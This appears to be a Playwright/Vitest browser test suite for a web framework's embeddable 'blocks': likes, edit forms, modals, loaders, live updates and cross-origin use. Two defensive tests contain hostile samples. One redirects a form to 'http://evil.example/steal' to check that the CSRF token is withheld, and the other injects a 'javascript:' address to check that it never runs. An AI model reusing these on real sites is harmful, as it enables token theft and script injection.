import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { hasBrowser, openBrowser, visitor } from './support/browser';
import { openStage, type Stage } from './support/stage';

const themesDirectory = path.resolve(__dirname, 'fixtures', 'site-themes');

describe.skipIf(!hasBrowser)('blocks in a browser', () => {
  let stage: Stage;
  let browser: Browser;
  let site: string;
  /** A server of other pages, with blocks of the site in them; the host's CORS settings list its origin. */
  let server: Server;
  let origin: string;
  beforeAll(async () => {
    server = createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(
        `<!doctype html><title>Elsewhere</title><script src="${site}@@apps.js" defer></script>` +
          `<div id="like" data-apps-load="${site}@@apps/count/blocks/like"></div>` +
          `<div id="live" data-apps-load="${site}@@apps/live/blocks/total"></div>`,
      );
    });
    await new Promise<void>((done) => server.listen(0, 'localhost', done));
    origin = `http://localhost:${(server.address() as AddressInfo).port}`;
    stage = await openStage({ themesDirectory, env: { APPS_THEME: 'browser', APPS_CORS_ORIGINS: origin } });
    browser = await openBrowser();
    site = `${stage.host.url}/site/`;
    await stage.put('terms', 'one', { name: 'One', block: 'term' });
  });
  afterAll(async () => {
    await browser?.close();
    await stage?.close();
    server?.close();
  });

  const total = async () => Number((await stage.items('count', 'total'))?.total ?? 0);

  test('a like in place keeps the page, the scroll position and the focus, and is announced', async () => {
    const { page, context, said } = await visitor(browser);
    await page.goto(site);
    await page.evaluate(() => Object.assign(window, { stays: true }));
    await page.evaluate(() => scrollTo(0, 120));
    const before = await total();
    await page.locator('button[name="action.like"]').focus();
    await page.keyboard.press('Enter');
    await page.waitForFunction((n) => document.querySelector('.total')?.textContent === String(n), before + 1);
    expect(
      await page.evaluate(() => [
        (window as { stays?: boolean }).stays,
        scrollY,
        document.activeElement?.getAttribute('name'),
      ]),
    ).toEqual([true, 120, 'action.like']);
    await page.waitForFunction(() => document.querySelector('[role=status]')?.textContent === 'Updated');
    expect(page.url()).toBe(site);
    expect(said.filter((line) => line.includes('liked'))).toEqual([
      expect.stringMatching(/^\[count\/like:\d+\] liked by somebody$/),
    ]);
    const other = await visitor(browser);
    await other.page.goto(site);
    expect(other.said.filter((line) => line.includes('liked'))).toEqual([]);
    await Promise.all([context.close(), other.context.close()]);
  });

  test('apps:load tells the block, at the start and after each reload', async () => {
    const { page, context } = await visitor(browser);
    await page.addInitScript(() => {
      Object.assign(window, { loads: [] as string[] });
      document.addEventListener('apps:load', (event) => {
        (window as unknown as { loads: string[] }).loads.push((event as CustomEvent).detail.block);
      });
    });
    await page.goto(site);
    await page.locator('#now .info').waitFor();
    await page.locator('button[name="action.like"]').click();
    await page.waitForFunction(
      () => (window as unknown as { loads: string[] }).loads.filter((id) => id === 'like').length === 2,
    );
    expect(await page.evaluate(() => (window as unknown as { loads: string[] }).loads)).toEqual(
      expect.arrayContaining(['like', 'list', 'total', 'info']),
    );
    await context.close();
  });

  test('an edit link opens in place, a wrong field keeps what was entered, a right one is saved in place', async () => {
    const { page, context } = await visitor(browser);
    await page.goto(site);
    await page.locator('a.edit').click();
    const field = page.locator('form[name=term] input[name=name]');
    await field.waitFor();
    expect(page.url()).toBe(site);
    await field.fill('x');
    await page.evaluate(() => document.querySelector('form[name=term]')?.setAttribute('novalidate', ''));
    await page.locator('form[name=term] button[name=_save]').click();
    await page.locator('form[name=term] [aria-invalid=true]').waitFor();
    expect(await field.inputValue()).toBe('x');
    expect(await page.evaluate(() => document.activeElement?.getAttribute('name'))).toBe('name');
    await field.fill('Two');
    await page.locator('form[name=term] button[name=_save]').click();
    await expect.poll(async () => (await stage.items('terms', 'one'))?.name).toBe('Two');
    expect(page.url()).toBe(site);
    await context.close();
  });

  test('a modal opens, keeps the focus, closes by Escape and gives the focus back', async () => {
    const { page, context } = await visitor(browser);
    await page.goto(site);
    await page.locator('#modal').click();
    await page.locator('dialog[open] form[name=new]').waitFor();
    expect(await page.locator('dialog').getAttribute('aria-label')).toBe('New term');
    for (let press = 0; press < 8; press += 1) {
      await page.keyboard.press('Tab');
      const where = await page.evaluate(() => {
        const active = document.activeElement;
        return active === document.body || active?.closest('dialog') !== null;
      });
      expect(where).toBe(true);
    }
    await page.keyboard.press('Escape');
    await page.locator('dialog').waitFor({ state: 'detached' });
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('modal');
    await context.close();
  });

  test('loaders: at once, by a click, by an event, when visible; a failing block is shown as one', async () => {
    const { page, context } = await visitor(browser);
    await page.goto(site);
    await page.locator('#now .info').waitFor();
    await page.locator('#loader').click();
    await page.locator('#loaded .info').waitFor();
    expect(await page.locator('#event').textContent()).toBe('waiting');
    await page.evaluate(() => document.querySelector('#event')?.dispatchEvent(new Event('site:open')));
    await page.locator('#event .info').waitFor();
    expect(await page.locator('#visible').textContent()).toBe('waiting');
    await page.locator('#visible').scrollIntoViewIfNeeded();
    await page.locator('#visible .info').waitFor();
    expect(await page.locator('#broken [role=alert]').textContent()).toMatch(/^This part could not be loaded/);
    expect(await page.locator('#foreign [role=alert]').textContent()).toBe('This part could not be loaded');
    expect(await page.evaluate(() => (window as { evaluated?: boolean }).evaluated)).toBeUndefined();
    await context.close();
  });

  test('a token never goes to another origin', async () => {
    const { page, context } = await visitor(browser, { bypassCSP: true });
    const asked: string[] = [];
    await page.route('http://evil.example/**', async (route) => {
      asked.push(route.request().postData() ?? '');
      await route.fulfill({ status: 204 });
    });
    await page.goto(site);
    await page.locator('#note').fill('sent');
    await page.evaluate(() => {
      const button = document.querySelector<HTMLButtonElement>('form[name=like] button');
      button?.setAttribute('formaction', 'http://evil.example/steal');
      button?.form?.requestSubmit(button);
    });
    await expect.poll(() => asked.length).toBe(1);
    expect(asked[0]).toContain('note=sent');
    expect(asked[0]).not.toContain('_csrf');
    await context.close();
  });

  test('an address that is a script is never run', async () => {
    const { page, context } = await visitor(browser, { bypassCSP: true });
    await page.goto(site);
    const script = 'javascript:void(window.evaluated = true)';
    await page.evaluate((address) => {
      document
        .querySelector('main')
        ?.insertAdjacentHTML(
          'beforeend',
          `<p><a id="js-load" href="#" data-apps-load="${address}">1</a></p><p><a id="js-modal" href="#" data-apps-modal="${address}">2</a></p>` +
            `<div id="js-now" data-apps-load="${address}"></div>`,
        );
    }, script);
    await page.locator('#js-load').click();
    await page.locator('#js-load .apps-error').waitFor();
    await page.locator('#js-modal').click();
    await page.locator('dialog .apps-error').waitFor();
    await page.locator('#js-now .apps-error').waitFor();
    expect(await page.evaluate(() => (window as { evaluated?: boolean }).evaluated)).toBeUndefined();
    await context.close();
  });

  test('a live block shows what another visitor has changed', async () => {
    await stage.put('live', 'n', { n: 1 });
    const { page, context } = await visitor(browser);
    const streams: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('apps.live')) streams.push(request.url());
    });
    await page.goto(site);
    expect(await page.locator('.live').textContent()).toBe('1');
    await expect.poll(() => streams.length).toBe(1);
    await page.waitForTimeout(200);
    await stage.send({ as: 'mona', send: 'PATCH live/record/n', json: { n: 2 } });
    await page.waitForFunction(() => document.querySelector('.live')?.textContent === '2');
    await context.close();
  });

  test('the same by another server process on the same database', async () => {
    const second = await openStage({ themesDirectory, env: { APPS_THEME: 'browser' }, database: stage.host.database });
    try {
      const { page, context } = await visitor(browser);
      await page.goto(`${second.host.url}/site/`);
      await page.waitForTimeout(1_500);
      await stage.send({ as: 'mona', send: 'PATCH live/record/n', json: { n: 3 } });
      await page.waitForFunction(() => document.querySelector('.live')?.textContent === '3');
      await context.close();
    } finally {
      await second.close();
    }
  });

  test('a block that refreshes itself every second', async () => {
    const { page, context } = await visitor(browser);
    await page.goto(`${site}@@apps/live/blocks/tick`);
    const first = await page.locator('.tick').textContent();
    await page.waitForFunction((text) => document.querySelector('.tick')?.textContent !== text, first);
    await context.close();
  });

  test('everything works without JavaScript', async () => {
    const { page, context } = await visitor(browser, { javaScriptEnabled: false });
    await page.goto(site);
    const before = await total();
    await page.locator('button[name="action.like"]').click();
    expect(await page.locator('.total').textContent()).toBe(String(before + 1));
    await page.goto(site);
    const [opened] = await Promise.all([context.waitForEvent('page'), page.locator('a.edit').click()]);
    await opened.locator('form[name=term] input[name=name]').fill('Three');
    await opened.locator('form[name=term] button[name=_save]').click();
    expect((await stage.items('terms', 'one'))?.name).toBe('Three');
    await page.locator('#modal').click();
    expect(page.url()).toContain('/@@apps/terms/blocks/new');
    await context.close();
  });

  describe('in a page of another origin', () => {
    test('a loader that the page makes later is found', async () => {
      const { page, context } = await visitor(browser);
      await page.goto(origin);
      await page.locator('#like .total').waitFor();
      await page.evaluate((address) => {
        document.body.insertAdjacentHTML(
          'beforeend',
          `<section><div id="later" data-apps-load="${address}"></div></section>`,
        );
      }, `${site}@@apps/count/blocks/info`);
      await page.locator('#later .info').waitFor();
      await context.close();
    });

    test('a REST client reads, writes and sees tokens with Authorization, and nothing with cookies', async () => {
      const { page, context } = await visitor(browser);
      await page.goto(origin);
      const { bearer } = (await stage.credential('mona')) as { bearer: string };
      const written = await page.evaluate(
        async ([app, token]) => {
          const headers = { Accept: 'application/json', Authorization: `Bearer ${token}` };
          const csrf = (await fetch(app, { headers })).headers.get('x-csrf-token') ?? '';
          const answer = await fetch(app, {
            method: 'POST',
            headers: { ...headers, 'Content-Type': 'application/json', 'X-CSRF-TOKEN': csrf },
            body: JSON.stringify({ name: 'From elsewhere' }),
          });
          const credentials = 'include';
          const withCookies = await fetch(app, { credentials }).catch(({ name }: Error) => name);
          return { status: answer.status, location: answer.headers.get('location'), withCookies };
        },
        [`${site}@@apps/terms`, bearer] as const,
      );
      expect(written).toEqual({
        status: 201,
        location: expect.stringContaining(`${site}@@apps/terms/record/`),
        withCookies: 'TypeError',
      });
      await context.close();
    });

    test('a block is loaded, liked and kept fresh, without credentials', async () => {
      const { page, context } = await visitor(browser);
      await page.goto(origin);
      await page.locator('#like .total').waitFor();
      const before = await total();
      await page.locator('button[name="action.like"]').click();
      await page.waitForFunction((n) => document.querySelector('.total')?.textContent === String(n), before + 1);
      expect(page.url()).toBe(`${origin}/`);
      await page.waitForTimeout(300);
      await stage.send({ as: 'mona', send: 'PATCH live/record/n', json: { n: 9 } });
      await page.waitForFunction(() => document.querySelector('.live')?.textContent === '9');
      await context.close();
    });
  });

  test('the script is small', async () => {
    const text = await (await fetch(`${site}@@apps.js`)).text();
    expect(gzipSync(text).length).toBeLessThan(6_000);
  });

  test('open pages do not keep the server from stopping', async () => {
    const own = await openStage({ themesDirectory, env: { APPS_THEME: 'browser' } });
    const { page, context } = await visitor(browser);
    await page.goto(`${own.host.url}/site/`);
    await page.waitForTimeout(300);
    const begin = performance.now();
    await own.close();
    expect(performance.now() - begin).toBeLessThan(9_000);
    await context.close();
  });
});
